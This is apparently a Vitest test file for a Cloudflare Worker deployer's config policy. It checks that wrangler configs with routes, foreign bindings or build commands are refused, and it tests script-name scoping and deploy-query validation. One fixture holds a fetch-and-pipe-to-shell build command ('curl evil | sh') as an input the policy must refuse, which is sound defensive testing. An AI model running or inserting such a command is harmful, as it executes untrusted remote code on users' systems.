import { describe, expect, it } from "vitest";
import { versionIdOf } from "../../container/deployer/app.ts";
import { checkWorkerConfig, parseJsonc } from "../../container/deployer/policy.ts";
import { DeployQuery, scopedScriptName, WORKER_NAME } from "../../src/protocol/deployer.ts";
import type { SandboxError } from "../../src/protocol/errors.ts";

const configs = (entries: Record<string, string>) => new Map(Object.entries(entries));
const refusal = (files: Map<string, string>): SandboxError | null => {
  try {
    checkWorkerConfig(files);
    return null;
  } catch (error) {
    return error as SandboxError;
  }
};

describe("deployer config policy", () => {
  it("accepts a self-contained Worker, comments and trailing commas included", () => {
    const text = `{
      // the app
      "name": "a", "main": "src/index.js", /* block */ "compatibility_date": "2025-06-01",
      "vars": { "URL": "https://x.example/a,}//not-a-comment" },
      "assets": { "directory": "./public", },
    }`;
    expect(refusal(configs({ "wrangler.jsonc": text }))).toBeNull();
    expect(parseJsonc(text)).toMatchObject({ vars: { URL: "https://x.example/a,}//not-a-comment" } });
  });

  it.each([
    ["routes", '{"routes": ["example.com/*"]}'],
    ["services", '{"services": [{"binding": "S", "service": "sandbox-mcp"}]}'],
    ["r2_buckets", '{"r2_buckets": [{"binding": "B", "bucket_name": "snapshots"}]}'],
    ["containers", '{"containers": [{"class_name": "C", "image": "x"}]}'],
    ["build", '{"build": {"command": "curl evil | sh"}}'],
  ])("refuses %s", (key, text) => {
    const error = refusal(configs({ "wrangler.json": text }));
    expect(error?.code).toBe("forbidden");
    expect(error?.message).toContain(`"${key}"`);
  });

  it("refuses another script's Durable Objects, TOML, broken JSON and a missing config", () => {
    expect(
      refusal(
        configs({
          "wrangler.jsonc":
            '{"durable_objects": {"bindings": [{"name": "D", "class_name": "X", "script_name": "other"}]}}',
        }),
      )?.message,
    ).toMatch(/script_name/);
    expect(refusal(configs({ "wrangler.toml": 'name = "a"' }))?.message).toMatch(/wrangler\.toml/);
    expect(refusal(configs({ "wrangler.jsonc": '{"name": ' }))?.code).toBe("bad_request");
    expect(refusal(configs({}))?.message).toMatch(/no wrangler\.jsonc/);
  });
});

describe("script names", () => {
  it("scopes names per principal, deterministically, within a DNS label", async () => {
    const a = await scopedScriptName("alice@example.com", "app");
    expect(a).toMatch(/^[0-9a-f]{12}-app$/);
    expect(await scopedScriptName("alice@example.com", "app")).toBe(a);
    expect(await scopedScriptName("bob@example.com", "app")).not.toBe(a);
    const longest = await scopedScriptName("p", "a".repeat(50));
    expect(longest.length).toBeLessThanOrEqual(63);
    expect(WORKER_NAME.test("a".repeat(51))).toBe(false);
  });

  it("validates deploy queries", () => {
    expect(DeployQuery.parse({ principal: "p", name: "my-app", dryRun: "true" }).dryRun).toBe(true);
    for (const name of ["My-App", "-app", "app-", "a_b", ""]) {
      expect(DeployQuery.safeParse({ principal: "p", name, dryRun: "false" }).success, name).toBe(false);
    }
  });

  it("finds the version id in wrangler's summary", () => {
    expect(
      versionIdOf(["Uploaded x (1.2 sec)", "Current Version ID: 3f1c2a9e-1111-4a2b-9c3d-0123456789ab"]),
    ).toBe("3f1c2a9e-1111-4a2b-9c3d-0123456789ab");
    expect(versionIdOf(["--dry-run: exiting now."])).toBeNull();
  });
});
